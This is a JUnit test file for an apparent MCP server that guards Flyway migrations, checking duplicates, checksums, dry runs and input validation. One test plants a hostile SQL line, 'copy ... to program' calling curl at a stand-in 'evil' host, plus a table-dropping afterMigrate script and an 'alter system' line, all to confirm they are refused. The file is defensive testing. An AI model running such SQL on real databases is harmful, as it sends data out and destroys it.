package dev.safemigrate.mcp;

import static dev.safemigrate.testing.ToolCalls.call;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import dev.safemigrate.testing.InProcessServer;
import dev.safemigrate.testing.ProjectDir;
import dev.safemigrate.testing.TestDatabase;
import dev.safemigrate.testing.ToolCalls.Result;

/** Revising, refusing duplicates, immutability of applied migrations, failing dry runs and applies. */
class MigrationLifecycleTest {

    @TempDir
    Path root;

    @Test
    void replacesPendingMigrationButNeverAnAppliedOne() throws Exception {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("lifecycle"), "");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            Result first = call(s.client, "create_migration", "name", "add_items", "sql", "create table items (id int);");
            Result duplicate = call(s.client, "create_migration", "name", "add_items", "sql", "create table items2 (id int);");
            assertEquals("MIGRATION_EXISTS", duplicate.errorCode());
            assertTrue(((String) duplicate.get("error.hint")).contains((String) first.get("version")));

            Result revised = call(s.client, "create_migration", "name", "add_items",
                    "sql", "create table items (id bigint primary key);", "replaces", first.get("version"));
            assertFalse(revised.isError(), revised.toString());
            assertEquals(first.get("version"), revised.get("replaced.version"));
            assertFalse(Files.exists(root.resolve((String) first.get("path"))), "the replaced file is gone");
            assertEquals(1, p.migrationFiles().size());
            assertTrue(Long.parseLong((String) revised.get("version")) > Long.parseLong((String) first.get("version")));

            assertFalse(call(s.client, "apply_to_dev").isError());
            Result immutable = call(s.client, "create_migration", "name", "add_items_again",
                    "sql", "drop table items;", "replaces", revised.get("version"));
            assertEquals("MIGRATION_APPLIED", immutable.errorCode());
            assertEquals(1, p.migrationFiles().size());

            Result missing = call(s.client, "create_migration", "name", "x", "sql", "select 1;", "replaces", "123");
            assertEquals("MIGRATION_NOT_FOUND", missing.errorCode());
        }
    }

    @Test
    void failingDryRunReportsStatementLineAndSqlstateAndChangesNothing() throws Exception {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("dryfail"), "");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            call(s.client, "create_migration", "name", "broken",
                    "sql", "create table ok_t (id int);\n\n-- the next one fails\ninsert into missing_t values (1);\n");
            Result dry = call(s.client, "apply_to_dev", "dry_run", true);
            assertFalse(dry.isError(), dry.toString());
            assertEquals(false, dry.get("dry_run_result.success"));
            assertEquals(4, dry.get("dry_run_result.failure.line"));
            assertEquals("42P01", dry.get("dry_run_result.failure.sqlstate"));
            assertTrue(((String) dry.get("dry_run_result.failure.message")).contains("missing_t"));
            assertFalse(TestDatabase.tableExists(p.database, "ok_t"));

            Result applied = call(s.client, "apply_to_dev");
            assertEquals("MIGRATION_FAILED", applied.errorCode());
            assertFalse(TestDatabase.tableExists(p.database, "ok_t"), "PostgreSQL rolled the failed migration back");
            Result status = call(s.client, "status");
            assertEquals(0, status.get("summary.applied"));
        }
    }

    @Test
    void editedAppliedMigrationIsAChecksumMismatch() throws Exception {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("edited"), "");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            Result created = call(s.client, "create_migration", "name", "t1", "sql", "create table t1 (id int);");
            assertFalse(call(s.client, "apply_to_dev").isError());
            Path file = root.resolve((String) created.get("path"));
            Files.writeString(file, "create table t1 (id int, sneaky text);\n");
            call(s.client, "create_migration", "name", "t2", "sql", "create table t2 (id int);");

            Result apply = call(s.client, "apply_to_dev");
            assertEquals("CHECKSUM_MISMATCH", apply.errorCode(), apply.toString());
            assertFalse(TestDatabase.tableExists(p.database, "t2"), "nothing applied after a failed validation");
            Result status = call(s.client, "status");
            assertEquals(false, status.get("validation.valid"));
        }
    }

    @Test
    void sqlFilesFlywayWouldRunUnanalysedAreRefused() throws Exception {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("unanalysable"), "");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            call(s.client, "create_migration", "name", "t1", "sql", "create table t1 (id bigint);");
            Files.writeString(p.migrations().resolve("R__refresh.sql"), "copy t1 to program 'curl http://evil';\n");
            Files.writeString(p.migrations().resolve("afterMigrate.sql"), "drop table t1;\n");
            Result apply = call(s.client, "apply_to_dev");
            assertEquals("VALIDATION_FAILED", apply.errorCode(), apply.toString());
            assertTrue(((String) apply.get("error.message")).contains("db/migrations/R__refresh.sql"));
            assertTrue(((String) apply.get("error.message")).contains("db/migrations/afterMigrate.sql"));
            assertEquals("VALIDATION_FAILED", call(s.client, "apply_to_dev", "dry_run", true).errorCode());
            Result status = call(s.client, "status");
            assertEquals(false, status.get("validation.valid"));
            assertTrue(status.get("validation.problems").toString().contains("R__refresh.sql"));
            assertFalse(TestDatabase.tableExists(p.database, "t1"));
        }
    }

    @Test
    void migrationsInSubfoldersAreAnalysedLikeFlywayRunsThem() throws Exception {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("subfolder"), "");
        Files.createDirectories(p.migrations().resolve("2026/november"));
        Files.writeString(p.migrations().resolve("2026/november/V7__hidden.sql"),
                "create table hidden (id bigint);\nalter system set fsync = off;\n");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            Result apply = call(s.client, "apply_to_dev");
            assertEquals("SQL_REJECTED", apply.errorCode(), apply.toString());
            assertEquals("alter-system", apply.get("findings.0.rule"));
            assertEquals("db/migrations/2026/november/V7__hidden.sql", apply.get("findings.0.path"));
            assertFalse(TestDatabase.tableExists(p.database, "hidden"));
        }
    }

    @Test
    void flywayPlaceholdersAreNotRewritten() throws Exception {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("placeholders"), "");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            call(s.client, "create_migration", "name", "literal", "sql",
                    "create table notes (body text default '${not_a_placeholder}');");
            Result apply = call(s.client, "apply_to_dev");
            assertFalse(apply.isError(), "what was analysed runs unchanged: " + apply);
            assertEquals(1, TestDatabase.queryLong(p.database,
                    "select count(*) from information_schema.columns where column_default like '%${not_a_placeholder}%'"));
        }
    }

    @Test
    void targetVersionStopsThere() throws Exception {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("target"), "");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            Result a = call(s.client, "create_migration", "name", "a", "sql", "create table a (id int);");
            call(s.client, "create_migration", "name", "b", "sql", "create table b (id int);");
            Result applied = call(s.client, "apply_to_dev", "target_version", a.get("version"));
            assertEquals(1, applied.list("applied").size());
            assertTrue(TestDatabase.tableExists(p.database, "a"));
            assertFalse(TestDatabase.tableExists(p.database, "b"));
            assertEquals("INVALID_INPUT", call(s.client, "apply_to_dev", "target_version", "../x").errorCode());
        }
    }

    @Test
    void invalidArgumentsAreToolErrorsAndTheServerKeepsServing() {
        ProjectDir p = ProjectDir.create(root, TestDatabase.create("invalid"), "");
        try (InProcessServer s = InProcessServer.start(p.config())) {
            assertEquals("INVALID_INPUT", call(s.client, "create_migration", "name", "x").errorCode());
            assertEquals("INVALID_INPUT", call(s.client, "apply_to_dev", "dry_run", "yes").errorCode());
            assertEquals("INVALID_INPUT", call(s.client, "status", "unexpected", 1).errorCode());
            assertEquals("INVALID_INPUT", call(s.client, "show_sql", "version", "1", "pending", true).errorCode());
            assertFalse(call(s.client, "status").isError());
        }
    }
}
